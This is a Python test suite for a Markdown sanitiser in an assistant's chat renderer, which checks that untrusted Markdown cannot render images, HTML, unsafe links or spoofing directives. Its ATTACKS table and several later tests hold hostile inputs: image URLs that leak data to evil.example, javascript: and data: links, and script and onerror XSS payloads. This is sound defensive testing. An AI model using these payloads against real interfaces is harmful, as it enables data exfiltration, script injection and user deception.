"""The one sanitiser: what untrusted Markdown may become on screen.

The properties are checked by parsing the sanitiser's output again, the way the browser
will: whatever went in, what comes out holds no image, no HTML, no link but http(s) and
mailto, and no Streamlit directive, and plain text shows exactly as typed.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.render import (
    StreamingMarkdown,
    highlight,
    plain_text,
    safe_inline,
    safe_markdown,
    with_superscript_markers,
)

PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# Streamlit's own syntax, applied to text after Markdown is parsed ...
DIRECTIVE = re.compile(r":[A-Za-z][\w-]*\[|:material/|:[^\s:\u2060][^\s:]*:")
# ... and maths, which a backslash before the dollar keeps out (checked in the source).


def _unescaped_dollar(markdown: str) -> bool:
    """Whether a ``$`` outside code spans and fences is not backslash-escaped."""
    i, fenced = 0, False
    for line in markdown.split("\n"):
        if line.lstrip("> -0123456789.").startswith("```"):
            fenced = not fenced
            continue
        if fenced:
            continue
        i = 0
        while i < len(line):
            c = line[i]
            if c == "\\":
                i += 2
                continue
            if c == "`":
                run = len(line[i:]) - len(line[i:].lstrip("`"))
                close = line.find("`" * run, i + run)
                i = close + run if close >= 0 else i + run
                continue
            if c == "$":
                return True
            i += 1
    return False


def _tokens(markdown: str):  # type: ignore[no-untyped-def]
    for block in PARSER.parse(markdown):
        yield block
        yield from block.children or []


def _unsafe(markdown: str) -> list[str]:
    found = ["maths"] if _unescaped_dollar(markdown) else []
    for tok in _tokens(markdown):
        if tok.type in ("image", "html_inline", "html_block"):
            found.append(tok.type)
        if tok.type == "link_open":
            href = str(tok.attrGet("href"))
            if not href.startswith(("http://", "https://", "mailto:")):
                found.append(f"link to {href}")
        if tok.type == "text" and DIRECTIVE.search(tok.content):
            found.append(f"directive in {tok.content!r}")
    return found


ATTACKS = {
    "reference image": "![x][1]\n\n[1]: https://evil.example/p.png?d=secret",
    "inline image": "Leave: ![x](https://evil.example/p.png?d=secret) 28 days",
    "nested brackets in alt": "![a [nested] b](https://evil.example/i.png)",
    "javascript reference link": "[click][j]\n\n[j]: javascript:alert(1)",
    "javascript link": "[click](javascript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "colour directive": "Approved :red[URGENT: reset your password at evil.example]",
    "icon directive": ":material/verified: Official answer",
    "emoji shortcode": ":warning: do this",
    "latex href": r"$$\href{https://evil.example}{click}$$",
    "inline maths": r"$\color{red}{x}$",
    "autolink to javascript": "<javascript:alert(1)>",
    "entity-encoded scheme": "[x](&#106;avascript:alert(1))",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_leave_nothing_that_fetches_runs_or_spoofs(text: str) -> None:
    out = safe_markdown(text)
    assert _unsafe(out) == []
    assert "evil.example/p.png" not in out


def test_allowed_structure_survives() -> None:
    text = (
        "# Leave\n\nFull-time staff get **28 days** of *paid* leave [1].\n\n"
        "- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n"
        "See [the handbook](https://intranet.example/handbook) or mail "
        "<hr@example.com>.\n\n```\ncode *stays* code\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    out = safe_markdown(text)
    kinds = {t.type for t in _tokens(out)}
    assert {"strong_open", "em_open", "bullet_list_open", "ordered_list_open"} <= kinds
    assert {"blockquote_open", "link_open", "fence", "table_open"} <= kinds
    assert "[the handbook](https://intranet.example/handbook)" in out
    assert "code *stays* code" in out
    assert with_superscript_markers(out).count("**\\[1\\]**") == 1


def test_plain_text_keeps_the_words_and_the_shape_without_the_markup() -> None:
    text = (
        "# Leave\n\nFull-time staff get **28 days** of *paid* leave [1], see `leave_days`.\n\n"
        "- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n"
        "See [the handbook](https://intranet.example/handbook), not [this](javascript:x).\n\n"
        "```\ncode *stays* code\n```\n\n<b>tag</b> stays text"
    )
    assert plain_text(text) == (
        "Leave\n\nFull-time staff get 28 days of paid leave [1], see leave_days.\n\n"
        "- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n"
        "See the handbook (https://intranet.example/handbook), not [this](javascript:x).\n\n"
        "code *stays* code\n\n<b>tag</b> stays text"
    )


def _shown(markdown: str) -> str:
    """The text a reader sees: every text and code token, word joiners removed."""
    parts = []
    for tok in _tokens(markdown):
        if tok.type in ("text", "code_inline"):
            parts.append(tok.content)
        elif tok.type == "softbreak":
            parts.append(" ")
    return "".join(parts).replace("\u2060", "")


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=300))
def test_any_text_is_safe_and_a_label_shows_exactly_what_was_typed(text: str) -> None:
    assert _unsafe(safe_markdown(text)) == []
    label = safe_inline(text)
    assert _unsafe(label) == []
    typed = " ".join(text.split()).replace("\x00", "\ufffd")
    assert _shown(label) == typed.replace("\u2060", "")  # a typed word joiner is invisible


MARKDOWNISH = st.text(alphabet="[]()!<>*_`#:$-|~\\ \nab1h/.", max_size=200)


@settings(max_examples=500, deadline=None)
@given(MARKDOWNISH)
def test_markdown_shaped_noise_is_safe(text: str) -> None:
    assert _unsafe(safe_markdown(text)) == []
    assert _unsafe(safe_markdown("![a](https://e.x/" + text + ")")) == []


def test_a_streamed_text_is_safe_at_every_step_and_ends_as_the_whole() -> None:
    text = (
        "First paragraph [1].\n\nAn image ![t](https://evil.example/t.png?d=1) mid-stream.\n\n"
        "```\nfenced\n\nstill fenced :red[x]\n```\n\nLast :material/bolt: line."
    )
    stream = StreamingMarkdown()
    for i in range(0, len(text), 7):
        assert _unsafe(stream.add(text[i : i + 7])) == []
    assert "evil.example" not in stream.add("")
    assert (
        _shown(stream.add(""))
        .replace(" ", "")
        .startswith("FirstparagraphI".replace("I", "[1]")[:14])
    )


def test_highlight_marks_the_snippet_across_line_breaks() -> None:
    passage = (
        "Leave accrues monthly. Up to five\nunused days may be carried over.\n\nNext paragraph."
    )
    out = highlight(passage, "Up to five unused days may be carried over.")
    assert ":orange-background[Up to five unused days may be carried over\\.]" in out
    assert "Next paragraph\\." in out
    marked = highlight("![x](https://evil.example/a.png) :red[x]", "x")
    assert _unsafe(_without_highlight(marked)) == [] and "evil.example/a.png)" not in marked


def _without_highlight(markdown: str) -> str:
    return markdown.replace(":orange-background[", "[", 1)


@settings(max_examples=500, deadline=None)
@given(MARKDOWNISH, st.integers(0, 200), st.integers(1, 40))
def test_a_highlighted_passage_is_as_safe_as_any_other(passage: str, at: int, size: int) -> None:
    snippet = passage[at : at + size]
    assert _unsafe(_without_highlight(highlight(passage, snippet))) == []
